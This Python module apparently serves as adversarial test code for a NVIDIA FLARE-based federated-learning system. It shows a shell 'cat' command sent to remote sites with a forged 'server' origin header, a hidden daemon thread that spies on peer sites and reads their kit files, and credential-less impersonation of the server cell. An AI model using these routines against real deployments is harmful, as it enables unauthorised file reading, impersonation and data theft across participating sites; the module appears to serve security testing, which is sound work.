"""What hostile parties run inside FLARE's processes: a coordinator's part of a job, and a site's."""

from __future__ import annotations

import json
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import numpy as np
from nvflare.collab import CollabCallError, collab
from nvflare.collab.api.call_opt import CallOption
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message

GREETING = {"what": "hello", "run": "", "epoch": 0, "step": 0}
WITHIN = 20.0


def ask_to_print(cell: Any, site: str, file: str, claimed: str = "") -> str:
    """Ask a site's FLARE client to print a file, without the header that would have it look whether that is allowed."""
    message = new_cell_message({}, Message(topic=SysCommandTopic.SHELL, body=f"cat {file}"))
    if claimed:
        message.set_header(MessageHeaderKey.ORIGIN, claimed)
    reply = cell.send_request(channel=CellChannel.CLIENT_MAIN, target=site, topic="admin", request=message, timeout=5.0)
    return str(getattr(reply.payload, "body", reply.payload)) + str(reply.get_header(MessageHeaderKey.ERROR, ""))


class Prober:
    """The coordinator's part of a job that asks for files instead of sums."""

    def __init__(self, files: dict[str, str], report: str) -> None:
        self._files = files
        self._report = report

    @collab.main  # type: ignore[untyped-decorator]
    def run(self) -> None:
        """Ask as the job, and as the server that it says it is."""
        cell = collab.fl_ctx.get_engine().get_cell()
        asked = [(site, file, claimed) for site, file in self._files.items() for claimed in ("", "server")]
        with ThreadPoolExecutor(len(asked)) as at_once:
            answers = at_once.map(lambda ask: ask_to_print(cell, *ask), asked)
        told = {f"{site} {claimed}": answer for (site, _, claimed), answer in zip(asked, answers, strict=True)}
        Path(self._report).write_text(json.dumps(told))


def spying(name: str, data: str, _features: Any, **_options: Any) -> Any:
    """Rows of a site that, while it takes part, calls the other sites of the job itself."""
    others, cell = list(collab.other_clients), collab.fl_ctx.get_engine().get_cell()
    threading.Thread(target=_spy, args=(name, others, cell, Path(data).parent), daemon=True).start()
    return np.load(data)


def _spy(name: str, others: list[Any], cell: Any, kit: Path) -> None:
    names = [other.name for other in others]
    with ThreadPoolExecutor(2 * len(others)) as at_once:
        calls = at_once.map(_call, others)
        answers = at_once.map(lambda other: ask_to_print(cell, other, str(kit.parent / other / "kit.json")), names)
    told, files = dict(zip(names, calls, strict=True)), dict(zip(names, answers, strict=True))
    (kit / "report.tmp").write_text(json.dumps({"site": name, "calls": told, "files": files}))
    (kit / "report.tmp").rename(kit / "report.json")


def _call(other: Any) -> str:
    """Greet another site as a coordinator would; it may not be up yet."""
    from eigenpact.runtime import wire
    from eigenpact.runtime.letters import PREFIX, checksum

    payload, after = wire.pack(GREETING), bytes(PREFIX)
    message = after + checksum(after + checksum(payload)) + bytes(payload)
    deadline = time.monotonic() + WITHIN
    while True:
        try:
            return f"answered: {other(timeout=5.0).handle(message)!r}"
        except CollabCallError as error:
            if "only the coordinator may call" in str(error) or time.monotonic() > deadline:
                return f"refused: {error}"
        time.sleep(0.5)


def spoof(url: str, job: str, site: str, message: bytes) -> str:
    """From a process of the site's own machine, without any credential: call the site's part of a job as the server's part."""
    from nvflare.collab.runtime.cell_dispatcher import CellDispatcher
    from nvflare.fuel.f3.cellnet.cell import Cell

    cell = Cell(fqcn=f"server.{job}", root_url="", secure=False, credentials={}, create_internal_listener=False, parent_url=url)
    cell.start()
    try:
        calls = CellDispatcher(None, None, "server", cell, f"{site}.{job}", None, None)
        return repr(calls._call_target(None, f"{site}.client", CallOption(timeout=3.0), "handle", data=message))
    except CollabCallError as error:
        return f"no answer: {error}"
    finally:
        cell.stop()


if __name__ == "__main__":
    print(spoof(*sys.argv[1:4], bytes.fromhex(sys.argv[4])))
